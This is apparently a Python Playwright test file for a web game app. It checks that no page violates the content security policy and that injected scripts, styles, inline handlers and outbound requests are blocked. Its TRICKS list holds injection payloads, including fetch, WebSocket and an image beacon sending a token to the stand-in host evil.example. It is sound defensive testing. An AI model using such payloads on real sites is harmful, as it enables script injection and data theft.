"""The content security policy: no page violates it, and it blocks what a stranger injects."""

from collections.abc import Callable

import pytest
from phones import Phone, play_until_dice
from playwright.sync_api import Browser, expect

from server_process import Serving

MakePhone = Callable[..., Phone]
WATCH = """
window.against = [];
addEventListener('securitypolicyviolation', (event) => against.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
TRICKS = (  # what must stop each, and what a stranger would try
    ("script-src", "head.append(Object.assign(document.createElement('script'), {textContent: 'window.evil = 1'}))"),
    ("style-src", "head.append(Object.assign(document.createElement('style'), {textContent: 'body{color:red}'}))"),
    ("script-src", "body.insertAdjacentHTML('beforeend', '<button onclick=\"window.evil = 1\"></button>')"),
    ("connect-src", "try { new WebSocket('ws://evil.example/') } catch { }"),
    ("connect-src", "fetch('http://evil.example/').catch(() => {})"),
    ("img-src", "new Image().src = 'http://evil.example/?token'"),
)


@pytest.mark.slow  # in every other test with a browser a violation is an error of the page, which fails it
def test_no_page_violates_the_content_security_policy(phone: MakePhone) -> None:
    """Shelf, game page, lesson, table, big screen, review, a game looked back at: on one phone."""
    ann = phone()
    ann.page.add_init_script(WATCH)
    ann.open("/")
    ann.page.get_by_role("link", name=ann.words["tug"]).first.wait_for()
    assert ann.page.evaluate("against") == []
    ann.open("/learn/tug")
    ann.page.locator("svg").first.wait_for()
    assert ann.page.evaluate("against") == []
    ann.open("/game/tug").tap("begin")
    ann.page.wait_for_url("**/table/*")
    play_until_dice(ann)
    assert ann.page.evaluate("against") == []
    code = ann.page.url.rpartition("/")[2]
    screen = phone()
    screen.page.add_init_script(WATCH)
    screen.open(f"/screen/{code}")
    screen.page.get_by_text(code).first.wait_for()
    assert screen.page.evaluate("against") == []
    ann.resign()
    ann.tap("review")
    ann.page.get_by_role("slider").wait_for()
    assert ann.page.evaluate("against") == []
    ann.open(f"/replay/{code}/1")
    ann.page.get_by_role("slider").wait_for()
    assert ann.page.evaluate("against") == []


def test_injected_scripts_styles_images_and_frames_are_blocked(phone: MakePhone) -> None:
    ann = phone()
    ann.page.add_init_script(WATCH)
    ann.open("/")
    ann.page.get_by_role("link", name=ann.words["tug"]).first.wait_for()
    for done, (directive, trick) in enumerate(TRICKS, start=1):
        ann.page.evaluate(f"() => {{ const [head, body] = [document.head, document.body]; {trick} }}")
        ann.page.wait_for_function("count => against.length >= count", arg=done)
        assert ann.page.evaluate("against")[-1].startswith(directive)
    assert ann.page.evaluate("window.evil") is None
    ann.troubles.clear()  # the browser says what it has stopped


def test_the_offline_page_keeps_its_style_under_the_policy(browser: Browser, serving: Serving) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.add_init_script(WATCH)
        page.goto(f"{serving.url}/offline.html")
        expect(page.locator("body")).to_have_css("text-align", "center")
        assert page.evaluate("against") == []
